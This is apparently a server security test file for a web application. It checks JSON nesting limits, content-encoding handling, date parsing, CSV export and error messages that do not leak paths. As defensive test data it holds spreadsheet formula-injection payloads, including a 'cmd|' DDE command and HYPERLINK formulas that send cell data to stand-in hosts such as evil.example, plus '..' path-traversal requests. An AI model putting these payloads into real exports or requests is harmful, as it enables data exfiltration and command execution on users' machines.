// Input and output (issue 13 §6), beside the cases added to the bad-input suite: what must
// still work next to what is now refused — a gzip body, a date-only field at midnight, the id a
// read handed out written back — and what leaves the server: CSV cells a spreadsheet would run
// as formulas come out neutralized (numbers stay numbers), and report errors name the form, not
// the server's folders.
import { expect } from "chai";
import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { gzipSync } from "node:zlib";
import { loadInitialData } from "../../server/initial-data.ts";
import { jsonDepth, MAX_JSON_DEPTH } from "../../server/http/hardening.ts";
import { neutralize, toCsv } from "../../server/reports/csv.ts";
import type { Manifest } from "../../server/reports/manifest.ts";
import { parseDateText } from "../../server/storage/values.ts";
import { ROOT, testPlatform } from "../helpers/db.ts";
import type { TestSession } from "../platform/api-client.ts";
import { ADMIN_PW, refused, startSecure, type Secure } from "./helpers.ts";

describe("security: input and output (unit)", () => {
  it("counts nesting on the raw text without recursion, brackets inside strings not counted", () => {
    expect(jsonDepth('{"a":[1,{"b":[]}]}')).to.equal(4);
    expect(jsonDepth('{"a":"[[[{{{\\"[[["}')).to.equal(1);
    expect(jsonDepth(Buffer.from('["\\\\",[["x"]]]'))).to.equal(3);
    expect(jsonDepth("[".repeat(1_000_000) + "]".repeat(1_000_000), MAX_JSON_DEPTH)).to.equal(MAX_JSON_DEPTH + 1);
    expect(jsonDepth('"["')).to.equal(0);
  });

  it("date-only values: midnight is the date, another time or an invalid one is refused (a period keeps cutting valid times)", () => {
    expect(parseDateText("2011-01-01", false, true)).to.equal("2011-01-01");
    expect(parseDateText("2011-01-01T00:00:00", false, true)).to.equal("2011-01-01");
    expect(parseDateText("2011-01-01T00:00", false, true)).to.equal("2011-01-01");
    for (const v of ["2011-01-01T99:99:99", "2011-01-01T12:00:00", "2011-01-01T00:00:01", "2011-01-01T24:00:00"])
      expect(parseDateText(v, false, true), v).to.equal(null);
    expect(parseDateText("2011-01-01T99:99:99", false)).to.equal(null);
    expect(parseDateText("2011-01-01T12:30:00", false)).to.equal("2011-01-01");
    expect(parseDateText("2011-01-01", true, true)).to.equal("2011-01-01T00:00:00");
  });

  it("neutralizes text a spreadsheet would run as a formula; numbers stay numbers", () => {
    for (const v of [
      '=HYPERLINK("x")',
      "+1+2",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
      "-",
      "=",
      "+7 (999) 123-45-67",
    ])
      expect(neutralize(v), JSON.stringify(v)).to.equal("'" + v);
    for (const v of ["-12.50", "-12,50", "+5", "12", "Иванов", "a=b", " =1", "'=1", ""])
      expect(neutralize(v), JSON.stringify(v)).to.equal(v);
    const m = {
      name: "t",
      title: "T",
      csv: {
        rows: "rows",
        columns: [
          { title: "Имя", value: "name" },
          { title: "Число", value: "n" },
          { title: "Сумма", value: "sum", format: "money" },
        ],
      },
    } as unknown as Manifest;
    const csv = toCsv(m, {
      rows: [
        { name: '=HYPERLINK("http://evil/?"&A1,"x")', n: -5, sum: "-12.5" },
        { name: "-1+1", n: null, sum: "3" },
      ],
    });
    expect(csv.replace(/^\ufeff/, "").split("\r\n")).to.deep.equal([
      "Имя;Число;Сумма",
      `"'=HYPERLINK(""http://evil/?""&A1,""x"")";-5;-12,50`,
      "'-1+1;;3,00",
      "",
    ]);
  });
});

describe("security: input and output (API)", function () {
  this.timeout(300_000);
  let s: Secure;
  let admin: TestSession;
  let reports: string;
  const ids: Record<string, string> = {};

  before(async () => {
    // The configuration's forms (linked) and two broken ones, in a folder of their own.
    reports = mkdtempSync(join(tmpdir(), "io-reports-"));
    for (const f of readdirSync(join(ROOT, "reports"))) symlinkSync(join(ROOT, "reports", f), join(reports, f));
    const form = (name: string, files: Record<string, string>) => {
      mkdirSync(join(reports, name));
      for (const [f, text] of Object.entries({
        "manifest.yaml": "title: Сломанная\nappliesTo: standalone\n",
        "template.hbs": "<p>x</p>\n",
        ...files,
      }))
        writeFileSync(join(reports, name, f), text);
    };
    form("broken-data", { "data.ts": 'import x from "./missing-module.ts";\nexport default () => ({ x });\n' });
    form("broken-manifest", { "manifest.yaml": "title: X\nparameters:\n  - { name: n, type: catalog.Nothing }\n" });
    process.env.REPORTS_DIR = reports;
    try {
      const p = await testPlatform(join(ROOT, "metadata"), "io");
      await loadInitialData(p, 1);
      s = await startSecure({ platform: p });
    } finally {
      delete process.env.REPORTS_DIR;
    }
    admin = await s.login("admin", ADMIN_PW);
    const payment = (await s.req("GET", "/api/documents/Payment?limit=1", { session: admin })).body.rows[0];
    ids.payment = payment.id;
    ids.account = payment.Account;
  });
  after(async () => {
    await s?.close();
    await s?.platform.close();
    if (reports) rmSync(reports, { recursive: true, force: true });
  });

  const send = (method: string, path: string, body: Buffer, headers: Record<string, string>) =>
    fetch(s.base + path, {
      method,
      body: new Uint8Array(body),
      headers: { cookie: admin.cookie, "x-csrf-token": admin.csrf, "content-type": "application/json", ...headers },
    });

  it("takes a gzip body (and identity); refuses br and deflate with 415 before reading them", async () => {
    const body = JSON.stringify({ name: "Сжатая услуга", CalculationMethod: "ByTotalArea" });
    let r = await send("POST", "/api/catalogs/Services", gzipSync(body), { "content-encoding": "gzip" });
    expect(r.status, await r.clone().text()).to.equal(201);
    expect((await r.json()).name).to.equal("Сжатая услуга");
    r = await send(
      "POST",
      "/api/catalogs/Services",
      Buffer.from(JSON.stringify({ name: "Без сжатия", CalculationMethod: "ByTotalArea" })),
      { "content-encoding": "identity" },
    );
    expect(r.status).to.equal(201);
    for (const enc of ["br", "deflate", "BR"]) {
      r = await send("POST", "/api/catalogs/Services", gzipSync(body), { "content-encoding": enc });
      expect(r.status, enc).to.equal(415);
      expect((await r.json()).error.message).to.match(/gzip/);
    }
  });

  it("takes 64 levels of nesting to the validator; 65 are refused naming the limit", async () => {
    const nested = (n: number) => "[".repeat(n) + "]".repeat(n);
    let r = await s.req("POST", "/api/catalogs/Services", { session: admin, raw: `{"name":${nested(63)}}` });
    expect(refused(r, 400)).to.match(/name/); // reached the body's validation
    r = await s.req("POST", "/api/catalogs/Services", { session: admin, raw: `{"name":${nested(64)}}` });
    expect(refused(r, 400, "too_deep")).to.match(/64/);
  });

  it("a date-only field takes midnight as the date and refuses another time naming the field", async () => {
    let r = await s.req("PUT", `/api/catalogs/PersonalAccounts/${ids.account}`, {
      session: admin,
      body: { Opened: "2011-02-03T00:00:00" },
    });
    expect(r.status, r.text).to.equal(200);
    expect(r.body.Opened).to.equal("2011-02-03");
    r = await s.req("PUT", `/api/catalogs/PersonalAccounts/${ids.account}`, {
      session: admin,
      body: { Opened: "2011-01-01T99:99:99" },
    });
    expect(refused(r, 400)).to.match(/Opened|Дата открытия/);
    expect(r.body.error.field).to.equal("Opened");
    r = await s.req("GET", `/api/catalogs/PersonalAccounts/${ids.account}`, { session: admin });
    expect(r.body.Opened).to.equal("2011-02-03");
    r = await s.req("POST", "/api/reports/debtors/render?format=html", {
      session: admin,
      body: { date: "2011-11-30T00:00:00Z" },
    });
    expect(r.status).to.equal(200);
  });

  it("takes back the id a read handed out; another id and posted are refused naming the field", async () => {
    const got = (await s.req("GET", `/api/documents/Payment/${ids.payment}`, { session: admin })).body;
    const { posted: _p, ...back } = got;
    let r = await s.req("PUT", `/api/documents/Payment/${ids.payment}`, {
      session: admin,
      body: { ...back, id: ids.payment.toUpperCase(), comment: "назад" },
    });
    expect(r.status, r.text).to.equal(200);
    r = await s.req("PUT", `/api/documents/Payment/${ids.payment}`, {
      session: admin,
      body: { ...back, version: r.body.version },
    });
    expect(r.status, r.text).to.equal(200);
    r = await s.req("PUT", `/api/documents/Payment/${ids.payment}`, { session: admin, body: got });
    expect(refused(r, 400)).to.match(/posted.*post/);
    expect(r.body.error.field).to.equal("posted");
    r = await s.req("POST", `/api/documents/Payment/${ids.payment}/fill/Services`, {
      session: admin,
      body: { id: ids.account },
    });
    expect(r.body.error?.field, r.text).to.equal("id");
  });

  it("writes a catalog item named =HYPERLINK(…) into the CSV neutralized, amounts as numbers", async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1;"Оплатить")';
    const r = await s.req("PUT", `/api/catalogs/PersonalAccounts/${ids.account}`, {
      session: admin,
      body: { name: evil },
    });
    expect(r.status, r.text).to.equal(200);
    const csv = await s.req("POST", "/api/reports/payments-register/render?format=csv", {
      session: admin,
      body: { from: "2011-01-01", to: "2012-12-31" },
    });
    expect(csv.status, csv.text.slice(0, 300)).to.equal(200);
    const lines = csv.text.split("\r\n").filter((l) => l.includes("HYPERLINK"));
    expect(lines.length).to.be.greaterThan(0);
    for (const l of lines) {
      expect(l).to.include(`"'=HYPERLINK(""http://evil.example/?""&A1;""Оплатить"")"`);
      expect(l).to.match(/;-?\d+,\d\d;/); // the amount, a number
    }
  });

  it("report errors name the form and its file, never the server's folders", async () => {
    const leaks = (text: string) => [ROOT, reports, tmpdir(), "папка"].filter((x) => text.includes(x));
    let r = await s.req("POST", "/api/reports/broken-data/render?format=html", { session: admin, body: {} });
    expect(r.status).to.equal(500);
    expect(r.body.error.message).to.match(/Форма «broken-data»: data\.ts не загружается/);
    expect(leaks(r.text), r.text).to.deep.equal([]);
    r = await s.req("GET", "/api/reports", { session: admin });
    const broken = r.body.reports.find((f: { name: string }) => f.name === "broken-manifest");
    expect(broken.error).to.equal("manifest.yaml: parameters[0].type: catalog «Nothing» нет в конфигурации");
    expect(leaks(r.text)).to.deep.equal([]);
    // A name that is the parent folder itself (sent as is: fetch would normalise "..").
    for (const path of [
      "/api/reports/..",
      "/api/reports/../render?format=html",
      "/api/reports/nothing-here",
      "/api/reports/nothing-here/render?format=html",
    ]) {
      const { status, text } = await raw(path.endsWith("html") ? "POST" : "GET", path);
      expect(status, `${path}: ${text}`).to.be.within(400, 499);
      expect(leaks(text), `${path}: ${text}`).to.deep.equal([]);
      expect(text, path).to.not.match(new RegExp(`\\b${basename(ROOT)}\\b`));
    }
  });

  function raw(method: string, path: string): Promise<{ status: number; text: string }> {
    const url = new URL(s.base);
    return new Promise((resolve, reject) => {
      const q = request(
        {
          host: url.hostname,
          port: url.port,
          method,
          path,
          headers: { cookie: admin.cookie, "x-csrf-token": admin.csrf, "content-type": "application/json" },
        },
        (res) => {
          let text = "";
          res.setEncoding("utf8");
          res.on("data", (d) => (text += d));
          res.on("end", () => resolve({ status: res.statusCode!, text }));
        },
      );
      q.on("error", reject);
      q.end(method === "POST" ? "{}" : undefined);
    });
  }
});
